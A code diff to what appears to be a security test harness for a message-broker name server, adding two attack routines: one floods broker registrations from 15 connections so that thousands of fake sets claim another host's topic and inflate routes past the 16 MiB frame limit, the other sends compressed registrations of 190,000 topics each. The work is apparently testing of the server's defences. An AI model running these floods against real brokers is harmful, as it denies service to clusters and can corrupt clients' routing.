@@ -12,6 +12,7 @@ from collections.abc import Callable
 from pathlib import Path
 
 from attacked import ABUSE, SECRET, Attack, Result, Target, attempt, frames, in_words, nothing, requests
+from crowd import read_answers
 from hostile import IDENTITY, filled, inflated
 from peers.processes import free_port
 from peers.scripted import Line, ScriptedBroker, queues_in, registration_body, route_query
@@ -23,6 +24,7 @@ from peers.wire import (
     REGISTER_BROKER,
     SUCCESS,
     UPDATE_CONFIG,
+    frame,
 )
 
 MIB = 1024 * 1024
@@ -33,6 +35,11 @@ TOPICS = {VICTIM: 4, "another": 4}
 #: A broker that has not left the routes by then stays.
 GONE_S = 90
 CONNECTIONS, CONNECTIONS_MAX = 4_000, 2_000
+#: Requests that are sent before the first of them is answered.
+PIPELINED = 64
+#: Longest frame that Java's peers read.
+FRAME_BYTES_MAX = 16 * MIB
+GET_CLUSTERS = 106
 IDLE_S = 4
 COMPRESSED = IDENTITY | {"compressed": "true"}
 
@@ -236,6 +243,63 @@ def unit_lists(target: Target, _registered: Line) -> Result:
     return Result(", ".join(results))
 
 
+def claims(target: Target, made: list[list[bytes]]) -> Result:
+    """Have strangers' sets claim the topic of a broker of another host, and look at the route that its clients get."""
+    stack = contextlib.ExitStack()
+    with stack:
+        broker = stack.enter_context(
+            contextlib.closing(ScriptedBroker(target.line(host="127.0.0.9"), VICTIM, address="10.9.9.8:10911"))
+        )
+        broker.register(TOPICS)
+        client = stack.enter_context(contextlib.closing(target.line(host="127.0.0.9")))
+        before = len(client.request(*route_query(VICTIM)).body)
+        for requests_of_one in made:
+            line = stack.enter_context(contextlib.closing(target.line()))
+            for start in range(0, len(requests_of_one), PIPELINED):
+                few = requests_of_one[start : start + PIPELINED]
+                line.socket.sendall(b"".join(few))
+                read_answers(line.socket, len(few), seconds=120)
+        route = client.request(*route_query(VICTIM)).body
+        clusters = client.request(GET_CLUSTERS, {}).body
+    found = f"route in bytes: {before} -> {too_long(len(route))}, 106: {too_long(len(clusters))}"
+    return Result(f"{sum(map(len, made)):,} x 103", found)
+
+
+def too_long(size: int) -> str:
+    """Return a size, marked where no Java peer reads so long a frame."""
+    return f"{size:,}" if size < FRAME_BYTES_MAX else f"**{size:,}, which no Java peer reads**"
+
+
+def claiming_sets(_target: Target) -> list[list[bytes]]:
+    """Return the registrations of 15 connections, each of as many sets as one may have here."""
+    body = registration_body(TOPICS, 1)
+    names = [f"{number:05}{'n' * 250}" for number in range(15 * 1024)]
+    made = [frame(REGISTER_BROKER, registration("0", f"{'a' * 240}:10911", brokerName=name), body) for name in names]
+    return [made[start : start + 1024] for start in range(0, len(made), 1024)]
+
+
+def many_topics(target: Target, made: list[bytes]) -> Result:
+    """Register ever more topics over one connection, which stays until the end."""
+    with contextlib.closing(target.line()) as line:
+        answers = []
+        for request in made:
+            line.socket.sendall(request)
+            answers.append(attempt(lambda: line.receive()[1]))
+        time.sleep(1)
+    counts = Counter(answers)
+    return Result(", ".join(f"{count} x {answer}" for answer, count in counts.items()))
+
+
+def topics_of_invented_sets(_target: Target) -> list[bytes]:
+    """Return 26 compressed registrations, with 190,000 topics each."""
+    made = []
+    for number in range(26):
+        fields = registration("0", f"10.6.6.{number}:10911", brokerName=f"invented-{number}", compressed="true")
+        topics = [b"%02d%06d%s 8 8 6 SINGLE_TAG" % (number, topic, b"x" * 20) for topic in range(190_000)]
+        made.append(frame(REGISTER_BROKER, fields, inflated(topics, [])))
+    return made
+
+
 ATTACKS = [
     Attack("nothing, for 3 s: NameServer", nothing),
     Attack(
@@ -304,4 +368,14 @@ ATTACKS = [
         frames(REGISTER_BROKER, registration("0" * 5_000 + "1", "10.6.6.6:10911"), lambda: b""),
     ),
     Attack("311, 312, 313 with 5,000 unit topics on 60 sets", unit_lists, unit_topics),
+    Attack(
+        "103 over 15 connections of one host: 15,360 sets that claim the topic of another host's broker",
+        claims,
+        claiming_sets,
+    ),
+    Attack(
+        "26 x 103 over one connection, compressed: 190,000 topics each",
+        many_topics,
+        topics_of_invented_sets,
+    ),
 ]
